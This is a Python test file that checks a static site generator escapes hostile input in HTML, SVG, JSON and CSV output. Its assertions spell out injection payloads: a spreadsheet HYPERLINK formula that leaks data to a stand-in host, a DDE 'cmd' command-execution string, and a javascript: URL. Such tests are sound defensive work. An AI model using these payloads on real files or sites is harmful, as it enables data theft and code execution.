"""The fixture site with hostile text in every field of every data file (hostile_project.py):
it builds, and the text stays text in the HTML, the SVG, the JSON and the CSV files."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from bs4 import BeautifulSoup

from .hostile_project import HOSTILE_TEXT, HOSTILE_URL

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _pages(site: Path) -> dict[str, BeautifulSoup]:
    return {p.relative_to(site).as_posix(): BeautifulSoup(p.read_text(encoding="utf-8"), "html.parser") for p in sorted(site.rglob("*.html"))}


def _inline_scripts(site: Path) -> set[str]:
    # JSON-LD (the Data page's schema.org Dataset) is data that no browser runs: its text is the site's name.
    return {s.get_text() for soup in _pages(site).values() for s in soup.find_all("script") if not s.get("src") and s.get("type") != "application/ld+json"}


def test_no_hostile_markup_becomes_an_element_or_attribute(hostile_site, small_site):
    # The theme's own inline scripts are the same as on the clean fixture site; nothing else runs.
    assert _inline_scripts(hostile_site) <= _inline_scripts(small_site)
    for path, soup in _pages(hostile_site).items():
        for element in soup.find_all(True):
            assert element.name not in ("iframe", "frame", "object", "embed", "style", "img"), f"{path}: <{element.name}>"
            handlers = [a for a in element.attrs if a.lower().startswith("on")]
            assert not handlers, f"{path}: <{element.name} {handlers}>"
            if element.name == "script" and element.get("src"):
                assert "//" not in element["src"].split("?")[0].replace("://", ""), f"{path}: script from {element['src']}"
        for svg_text in soup.select("svg title, svg desc, svg tspan"):
            assert not svg_text.find(True), f"{path}: markup inside SVG text"


def test_every_outgoing_link_has_rel(hostile_site):
    outgoing = 0
    for path, soup in _pages(hostile_site).items():
        for link in soup.find_all("a", href=True):
            if "//" in link["href"].split("#")[0][:8] or link["href"].lower().startswith(("http:", "https:", "//")):
                outgoing += 1
                assert {"noopener", "noreferrer"} <= set(link.get("rel") or []), f"{path}: {link}"
    assert outgoing > 0


def test_hostile_text_is_shown_literally(hostile_site):
    figures = _pages(hostile_site)["figures/index.html"]
    text = figures.get_text(" ")
    assert HOSTILE_TEXT[0] in text  # the <img onerror> and <iframe> label, as words
    headings = [h.get_text(" ", strip=True) for h in figures.find_all("h3")]
    assert any(h.startswith(HOSTILE_TEXT[0]) for h in headings)
    # The same text in a link's title (the figure's tooltip), quotes made typographic.
    home = _pages(hostile_site)["index.html"]
    titles = [a["title"] for a in home.select("a.figure-ref[title]")]
    assert any(t.startswith(HOSTILE_TEXT[0]) for t in titles), titles


def test_a_quote_in_an_address_does_not_cut_it(hostile_site):
    sources = _pages(hostile_site)["sources/index.html"]
    hrefs = [a["href"] for a in sources.find_all("a", href=True) if "fixture.example.org/it" in a["href"]]
    assert hrefs and all(h == "https://fixture.example.org/it%27s%20%27quoted%27/%28paren%29?a=1&b=javascript:alert(1)#frag".replace("alert(1)", "alert%281%29") for h in hrefs), hrefs


def _csv_cells(site: Path) -> list[tuple[str, str, str]]:
    cells = []
    for path in sorted((site / "downloads").glob("*.csv")):
        for row in csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"))):
            cells += [(path.name, column, value) for column, value in row.items()]
    return cells


def test_no_csv_cell_starts_a_formula(hostile_site):
    cells = _csv_cells(hostile_site)
    assert len({name for name, _, _ in cells}) >= 6
    starting = [c for c in cells if c[2].startswith(FORMULA_START)]
    assert starting == []
    neutralised = {value for _, _, value in cells if value.startswith("'")}
    for attack in ('=HYPERLINK("https://evil.example/?leak","click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"):
        assert "'" + attack in neutralised or any(v.startswith("'" + attack) for v in neutralised), attack
    # Label and citation columns too (the citation starts with the label).
    columns = {column for _, column, value in cells if value.startswith("'")}
    assert {"label", "citation"} <= columns, columns


def test_json_keeps_the_text_exactly(hostile_site):
    data = json.loads((hostile_site / "downloads" / "crimea-record.json").read_text(encoding="utf-8"))
    texts = json.dumps(data, ensure_ascii=False)
    for attack in HOSTILE_TEXT[:6]:
        assert json.dumps(attack, ensure_ascii=False)[1:-1] in texts, attack
    assert json.dumps(HOSTILE_URL)[1:-1] in texts
